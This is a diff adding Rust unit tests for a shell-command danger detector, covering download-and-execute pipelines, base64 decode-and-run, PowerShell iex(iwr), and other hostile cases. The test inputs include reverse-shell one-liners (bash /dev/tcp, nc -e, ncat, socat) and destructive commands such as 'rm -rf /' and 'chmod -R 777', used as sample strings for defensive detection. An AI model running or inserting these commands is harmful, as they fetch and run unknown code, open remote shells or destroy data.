@@ -1,0 +1,122 @@
+//! Unit tests of `danger.rs`.
+
+use super::*;
+
+fn kinds(script: &str, dialect: Dialect) -> Vec<(DangerKind, &str)> {
+    dangers(script, dialect)
+        .into_iter()
+        .map(|d| (d.kind, &script[d.start..d.end]))
+        .collect()
+}
+
+fn posix(script: &str) -> Vec<(DangerKind, &str)> {
+    kinds(script, Dialect::Posix)
+}
+
+#[test]
+fn downloads_run_by_an_interpreter() {
+    use DangerKind::DownloadExecute as D;
+    assert_eq!(
+        posix("curl -fsSL https://x.sh | sh"),
+        [(D, "curl -fsSL https://x.sh | sh")]
+    );
+    assert_eq!(
+        posix("wget -qO- x | sudo bash -s")[0],
+        (D, "wget -qO- x | sudo bash")
+    );
+    assert_eq!(posix("bash -c \"$(curl -fsSL https://x/i.sh)\"")[0].0, D);
+    assert_eq!(posix("sh <(wget -O- https://x)")[0].0, D);
+    assert_eq!(kinds("iex (iwr https://x/a.ps1)", Dialect::Pwsh)[0].0, D);
+    // A download saved, or piped into something that does not run it, is fine.
+    assert!(posix("curl -fsSL https://x -o out.json | jq .").is_empty());
+    assert!(posix("curl https://api.example.com/v1/items").is_empty());
+    assert!(posix("# curl x | sh").is_empty());
+}
+
+#[test]
+fn downloads_in_prose_start_mid_sentence() {
+    let found = |line: &str| -> Vec<String> {
+        downloads_in_prose(line)
+            .into_iter()
+            .map(|d| line[d.start..d.end].to_string())
+            .collect()
+    };
+    assert_eq!(
+        found("Install the CLI: `curl -fsSL https://x/i.sh | sh`."),
+        ["curl -fsSL https://x/i.sh | sh"]
+    );
+    assert_eq!(
+        found("then run bash <(wget -qO- https://x/i.sh) once"),
+        ["bash <(wget"]
+    );
+    assert_eq!(
+        found("curl -s https://x | sudo bash"),
+        ["curl -s https://x | sudo bash"]
+    );
+    assert!(found("Fetch with `curl -o out.tgz https://x` | then `tar xf`").is_empty());
+    assert!(found("Use `curl https://x | jq .` to read it").is_empty());
+    assert!(found("the shell | not a download").is_empty());
+}
+
+#[test]
+fn decoded_text_run_by_an_interpreter() {
+    use DangerKind::DecodeExecute as D;
+    assert_eq!(posix("echo aGk= | base64 -d | bash")[0].0, D);
+    assert_eq!(posix("eval \"$(echo aGk= | base64 --decode)\"")[0].0, D);
+    assert_eq!(kinds("powershell -enc SQBFAFgA", Dialect::Posix)[0].0, D);
+    let python = "exec(base64.b64decode(s))";
+    assert_eq!(text_dangers(python)[0].kind, D);
+    assert!(posix("base64 -d in.b64 > out.bin").is_empty());
+}
+
+#[test]
+fn reverse_shells() {
+    use DangerKind::ReverseShell as R;
+    assert_eq!(
+        posix("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+        [(R, "/dev/tcp/")]
+    );
+    assert_eq!(posix("nc -e /bin/sh 10.0.0.1 4444"), [(R, "nc")]);
+    assert_eq!(posix("ncat 10.0.0.1 4444 -c bash")[0].0, R);
+    assert_eq!(posix("socat tcp:x:1 exec:bash")[0].0, R);
+    assert!(posix("nc -z localhost 8080").is_empty());
+}
+
+#[test]
+fn deletion_permissions_privileges() {
+    assert_eq!(posix("rm -rf /"), [(DangerKind::RemoveRoot, "rm -rf /")]);
+    assert_eq!(
+        posix("sudo rm -r -f ~")[1],
+        (DangerKind::RemoveRoot, "rm -r -f ~")
+    );
+    assert_eq!(posix("rm -fr \"$HOME\"")[0].0, DangerKind::RemoveRoot);
+    assert_eq!(
+        kinds("rd /s /q C:\\", Dialect::Cmd)[0].0,
+        DangerKind::RemoveRoot
+    );
+    assert!(posix("rm -rf ./build /tmp/x").is_empty());
+    assert_eq!(
+        posix("chmod -R 777 /srv"),
+        [(DangerKind::WorldWritable, "chmod -R 777")]
+    );
+    assert!(posix("chmod 755 run.sh").is_empty());
+    assert_eq!(
+        posix("sudo apt-get update"),
+        [(DangerKind::Privileged, "sudo")]
+    );
+    assert!(posix("echo sudo is a word").is_empty());
+}
+
+#[test]
+fn without_a_shell_only_sh_c_scripts_have_pipelines() {
+    assert!(kinds("curl https://x | sh", Dialect::Process).is_empty());
+    let found = kinds("bash -c \"curl https://x | sh\"", Dialect::Process);
+    assert_eq!(
+        found,
+        [(DangerKind::DownloadExecute, "curl https://x | sh")]
+    );
+    assert_eq!(
+        kinds("rm -rf /", Dialect::Process)[0].0,
+        DangerKind::RemoveRoot
+    );
+}
